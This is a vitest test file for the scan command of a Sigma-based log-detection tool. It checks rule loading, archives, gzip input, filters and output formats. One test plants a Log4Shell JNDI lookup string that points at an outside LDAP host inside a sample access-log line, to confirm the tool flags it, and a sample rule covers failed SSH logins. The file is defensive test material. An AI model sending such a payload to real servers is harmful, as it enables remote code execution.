import { type Said, said } from "../testing/said.ts";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Readable } from "node:stream";
import { gzipSync } from "node:zlib";
import { zipSync } from "fflate";
import { create } from "tar";
import { afterAll, beforeAll, expect, it } from "vitest";
import { CommandFailure } from "../exit-codes.ts";
import { type ScanOptions, scanCommand } from "./scan.ts";

const folder = mkdtempSync(join(tmpdir(), "cordon-scan-"));
const RULE = `title: Somebody was refused
id: 6f9619ff-8b86-4d01-b42d-00cf4fc964ff
author: Ada
level: high
tags: [attack.t1110.001, attack.credential_access]
logsource: {product: linux, service: sshd}
detection: {s: {event|contains: Failed}, condition: k, k: ['Failed password']}
`;
const LOW = RULE.replace("high", "low").replace("6f9619ff", "7f9619ff").replace("refused", "refused, quietly");
const BAD = "title: broken\nlogsource: {}\ndetection: {s: {a|contians: 1}, condition: s}\n";
const LINES = [
  "2026-03-02T08:00:00Z web-1 sshd[1]: Failed password for root from 192.0.2.1 port 22 ssh2",
  "2026-03-02T08:01:00Z web-1 sshd[1]: Accepted password for ada from 192.0.2.2 port 22 ssh2",
  "2026-03-02T09:00:00Z db-1 sshd[1]: Failed password for ada from 192.0.2.2 port 22 ssh2",
  "",
].join("\n");

const rules = join(folder, "rules");
const log = join(folder, "auth.log");

beforeAll(() => {
  mkdirSync(rules);
  writeFileSync(join(rules, "refused.yml"), RULE);
  writeFileSync(join(rules, "quietly.yml"), LOW);
  writeFileSync(join(rules, "broken.yml"), BAD);
  writeFileSync(join(rules, "table.yml"), "title: a table of channels, which is no rule\nchannels: [a]\n");
  writeFileSync(log, LINES);
});
afterAll(() => rmSync(folder, { recursive: true }));

function scan(names: readonly string[], options: ScanOptions, stdin = Readable.from([])): Promise<Said> {
  return said((terminal) => scanCommand(names, options, terminal, stdin));
}

const json = (out: string): unknown[] =>
  out
    .trim()
    .split("\n")
    .map((line): unknown => JSON.parse(line));

it("prints a line of JSON for every match, in the order of the file, and says which rule file is broken", async () => {
  const { code, out, err } = await scan([log], { rules, json: true });

  expect(code).toBe(0);
  expect(err).toMatch(/^broken\.yml:3: There is no modifier "contians" in Sigma 2\.1\.\n$/);
  const matches = json(out);
  expect(matches).toHaveLength(4);
  expect(matches[1]).toEqual({
    file: log,
    line: 1,
    ruleId: "6f9619ff-8b86-4d01-b42d-00cf4fc964ff",
    ruleTitle: "Somebody was refused",
    author: "Ada",
    level: "high",
    techniques: ["T1110.001"],
    time: "2026-03-02T08:00:00.000Z",
  });
  expect(matches.map((match) => (match as { line: number }).line)).toEqual([1, 1, 3, 3]);
});

it("keeps to a level and a time", async () => {
  const high = await scan([log], { rules, json: true, minLevel: "medium" });
  const early = await scan([log], { rules, json: true, minLevel: "high", until: Date.parse("2026-03-02T08:30:00Z") });
  const late = await scan([log], { rules, json: true, minLevel: "high", since: Date.parse("2026-03-02T08:30:00Z") });

  expect(json(high.out)).toHaveLength(2);
  expect(json(early.out)).toMatchObject([{ line: 1 }]);
  expect(json(late.out)).toMatchObject([{ line: 3 }]);
});

it("reads rules from archives and events from gzip and standard input", async () => {
  const zip = join(folder, "rules.zip");
  const tar = join(folder, "rules.tar.gz");
  // Longer than the hundred characters that a header of a tar has room for.
  const deep = join("set", "a".repeat(60), "b".repeat(60));
  mkdirSync(join(folder, deep), { recursive: true });
  writeFileSync(join(folder, deep, "refused.yml"), RULE);
  writeFileSync(join(folder, deep, "broken.yml"), BAD);
  writeFileSync(join(folder, "set", "README.md"), "no rule");
  const utf8 = new TextEncoder();
  writeFileSync(zip, zipSync({ [`${deep}/refused.yml`]: utf8.encode(RULE), [`${deep}/broken.yml`]: utf8.encode(BAD) }));
  await create({ file: tar, cwd: folder, gzip: true, portable: true }, ["set"]);
  writeFileSync(join(folder, "auth.log.1.gz"), gzipSync(LINES));

  for (const archive of [zip, tar]) {
    const { out, err } = await scan([join(folder, "auth.log.1.gz")], { rules: archive, json: true });
    expect(json(out)).toHaveLength(2);
    expect(err).toContain(`${deep}/broken.yml:3: There is no modifier`);
  }
  const piped = await scan(["-"], { rules, json: true, minLevel: "high" }, Readable.from([Buffer.from(LINES)]));
  expect(json(piped.out)).toHaveLength(2);
});

it("counts for people by rule, level, tactic and host, and for programs in one line", async () => {
  const people = await scan([log], { rules });
  const stats = await scan([log], { rules, stats: true });

  expect(people.out).toMatch(/high +2 +\S*auth\.log:1 +T1110\.001 +Ada +Somebody was refused\n/);
  expect(people.out).toMatch(/credential-access +4\n/);
  expect(people.out).toMatch(/web-1 +2\n/);
  expect(people.out).toMatch(/\n3 events, 2 rules, 4 matches in /);
  expect(json(stats.out)).toMatchObject([{ rulesLoaded: 2, rulesFailed: 1, events: 3, matches: 4 }]);
});

it("leaves out what a Sigma filter of the rules holds back, and tells of one that changes nothing", async () => {
  const held = join(folder, "held");
  mkdirSync(held);
  const id = /id: (.*)/.exec(RULE)?.[1] ?? "";
  const filter = (named: string): string =>
    `title: by ${named}\nlogsource: {}\nfilter: {rules: [${named}], s: {absent: null}, condition: s}\n`;
  writeFileSync(join(held, "refused.yml"), RULE);
  const before = await scan([log], { rules: held, json: true });
  writeFileSync(join(held, "f.yml"), `${filter(id)}---\n${filter("nobody")}`);
  const after = await scan([log], { rules: held, json: true });

  expect(json(before.out).length).toBeGreaterThan(0);
  expect(after.out).toBe("");
  expect(after.err).toMatch(/f\.yml:\d+: the filter "by nobody" changes nothing/);
});

it("finds what Cordon's own rules know when no others are named", async () => {
  const attack = join(folder, "access.log");
  writeFileSync(
    attack,
    '192.0.2.7 - - [02/Mar/2026:08:00:00 +0000] "GET /?x=${jndi:ldap://192.0.2.9/a} HTTP/1.1" 200 12 "-" "curl/8"\n',
  );

  const { out } = await scan([attack], { json: true });

  expect(json(out)).toMatchObject([{ author: "Cordon", line: 1 }]);
});

it("refuses what cannot be rules before anything is read", async () => {
  const empty = join(folder, "empty");
  mkdirSync(empty);
  writeFileSync(join(folder, "broken.zip"), "no zip");

  await expect(scan([log], { rules: empty })).rejects.toThrow(/holds no rule files/);
  await expect(scan([log], { rules: join(folder, "absent") })).rejects.toThrow(/does not exist/);
  await expect(scan([log], { rules: join(folder, "broken.zip") })).rejects.toThrow(/cannot be read as rules/);
  await expect(scan([join(folder, "absent.log")], { rules })).rejects.toBeInstanceOf(CommandFailure);
});

it("an input that breaks off is told, and the others are scanned", async () => {
  const broken = join(folder, "broken.gz");
  writeFileSync(broken, gzipSync(LINES).subarray(0, 40));

  const { code, err, out } = await scan([broken, log], { rules, json: true, minLevel: "high" });

  expect(code).toBe(5);
  expect(err).toMatch(/broken\.gz: /);
  expect(json(out)).toHaveLength(2);
});
